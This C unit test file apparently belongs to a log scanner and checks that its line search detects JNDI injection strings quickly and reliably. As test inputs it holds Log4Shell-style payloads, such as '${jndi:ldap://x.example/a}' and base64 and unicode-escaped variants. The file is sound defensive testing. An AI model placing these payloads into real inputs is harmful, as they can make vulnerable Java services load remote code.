/* Lines: what a search costs does not depend on how long they are. */
#include "unit.h"

#include "base/limits.h"
#include "hunt/lines.h"

#include <time.h>

static enum status count(void *ctx, const struct line_hit *h)
{
    (void)h;
    ++*(size_t *)ctx;
    return OK;
}

/* A search that counts its hits. */
static void begin_counting(struct line_search *s, struct prefilter *f, size_t *hits)
{
    prefilter_init(f);
    assert_ok(line_search_init(s, f));
    s->hit = count;
    s->ctx = hits;
}

static double cpu_seconds(void)
{
    struct timespec t;
    assert_int_equal(clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t), 0);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* One line of nothing but places that are no opener: each was once looked at together with the rest
 * of the line, which took minutes for eight megabytes. */
static void a_long_line_is_linear(void **state)
{
    (void)state;
    static const char *const pieces[] = {"$\\", "%25", "\\u00", "&amp;", "JHtx", "&#1;", "\\x4d"};
    struct prefilter f;
    struct line_search s;
    size_t hits = 0, n = MIB(8);
    uint8_t *text = malloc(n);
    assert_non_null(text);
    begin_counting(&s, &f, &hits);
    s.no_evaluation = true;
    for (size_t i = 0; i < ARRAY_LEN(pieces); i++) {
        size_t used = 0, length = strlen(pieces[i]);
        for (size_t k = 0; k < n; k++)
            text[k] = (uint8_t)pieces[i][k % length];
        line_search_begin(&s);
        double began = cpu_seconds();
        assert_ok(line_search_block(&s, slice_of(text, n), false, &used));
        if (cpu_seconds() - began > 5)
            fail_msg("%s: %.1f s", pieces[i], cpu_seconds() - began);
        assert_int_equal(used, n);
    }
    line_search_done(&s);
    free(text);
}

/* Newlines in pieces that were passed over are counted. */
static void lines_are_counted(void **state)
{
    (void)state;
    struct prefilter f;
    struct line_search s;
    struct buf b;
    size_t hits = 0, used = 0;
    buf_init(&b, MIB(1));
    begin_counting(&s, &f, &hits);
    for (size_t i = 0; i < 5000; i++) {
        for (size_t k = 0; k < i % 60; k++)
            (void)buf_add_str(&b, k % 7 == 3 ? "\\u003" : "%25%2");
        (void)buf_add_str(&b, i % 100 == 99 ? "${jndi:x}\n" : "\n");
    }
    line_search_begin(&s);
    assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
    assert_int_equal(s.lines, 5000);
    assert_int_equal(hits, 50);
    line_search_done(&s);
    buf_done(&b);
}

/* Behind false openers that stand so densely that pieces are decoded: what needs no decoding of
 * escapes is found in the piece all the same, and no border between pieces hides anything. */
static void dense_text_hides_nothing(void **state)
{
    (void)state;
    static const char *const dense[] = {"%25", "\\u00", "&amp;", "%%32%34"};
    char many[1100] = "\\"; /* of u, as Java takes them */
    memset(many + 1, 'u', 1000);
    memcpy(many + 1001, "0024{jndi:x}", 13);
    const char *const payloads[] = {many,
                                    "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=",
                                    "YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9",
                                    "YWIke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ",
                                    "H4sIAAAAAAAC/6tWykrMy8hMyU8BAAAA",
                                    "${jndi:ldap://x.example/a}",
                                    "\\u0024\\u007bjndi:ldap://x.example/a}"};
    struct prefilter f;
    struct line_search s;
    struct buf b;
    size_t hits = 0, used = 0;
    buf_init(&b, MIB(1));
    begin_counting(&s, &f, &hits);
    s.no_evaluation = true;
    for (size_t d = 0; d < ARRAY_LEN(dense); d++) {
        for (size_t p = 0; p < ARRAY_LEN(payloads); p++) {
            for (size_t before = 0; before < 9000; before += 211) {
                buf_clear(&b);
                while (b.n < before)
                    (void)buf_add_str(&b, dense[d]);
                (void)buf_addf(&b, " %s ", payloads[p]);
                for (size_t k = 0; k < 100; k++)
                    (void)buf_add_str(&b, dense[d]);
                line_search_begin(&s);
                s.openers = 0;
                assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
                if (s.openers == 0)
                    fail_msg("%s behind %zu bytes of %s", payloads[p], before, dense[d]);
            }
        }
    }
    line_search_done(&s);
    buf_done(&b);
}

static enum status add_verdict(void *ctx, const struct line_hit *h)
{
    return buf_add_char(ctx, (char)('0' + h->found.verdict));
}

static void search_from(struct line_search *s, struct slice text, size_t from, struct buf *verdicts)
{
    size_t used = 0;
    s->ctx = verdicts;
    if (from)
        line_search_begin_at(s, from);
    else
        line_search_begin(s);
    assert_ok(line_search_block(s, slice_sub(text, from, text.n), false, &used));
}

/* A log that spends its credit again and again: the part behind a span's border is told the same
 * by who searches all of it and by who begins there. */
static void parts_are_told_as_the_whole(void **state)
{
    (void)state;
    struct prefilter f;
    struct line_search s;
    struct buf b, all, part;
    buf_init(&b, MIB(24));
    buf_init(&all, MIB(1));
    buf_init(&part, MIB(1));
    prefilter_init(&f);
    assert_ok(line_search_init(&s, &f));
    s.hit = add_verdict;
    while (b.n < 2 * LINES_SPAN + KIB(64)) {
        (void)buf_add_str(&b, "$$$$$$$$$$$$$$$$$$$$${jndi:x}"); /* a pass for each dollar */
        for (size_t k = 0; k < 20 + b.n % 7; k++)
            (void)buf_add_str(&b, "${q}");
        (void)buf_add_char(&b, '\n');
    }
    struct slice text = buf_slice(&b);
    search_from(&s, text, 0, &all);
    for (size_t span = LINES_SPAN; span <= 2 * LINES_SPAN; span += LINES_SPAN) {
        buf_clear(&part);
        size_t from = span + slice_index(slice_sub(text, span - 1, text.n), '\n');
        search_from(&s, text, from, &part);
        assert_in_range(part.n, 100, all.n);
        assert_non_null(memchr(part.p, '0' + VERDICT_REACHES, part.n));
        assert_non_null(memchr(part.p, '0' + VERDICT_ATTEMPT, part.n));
        assert_memory_equal(part.p, all.p + all.n - part.n, part.n);
    }
    line_search_done(&s);
    buf_done(&b);
    buf_done(&all);
    buf_done(&part);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_long_line_is_linear),
        cmocka_unit_test(lines_are_counted),
        cmocka_unit_test(dense_text_hides_nothing),
        cmocka_unit_test(parts_are_told_as_the_whole),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
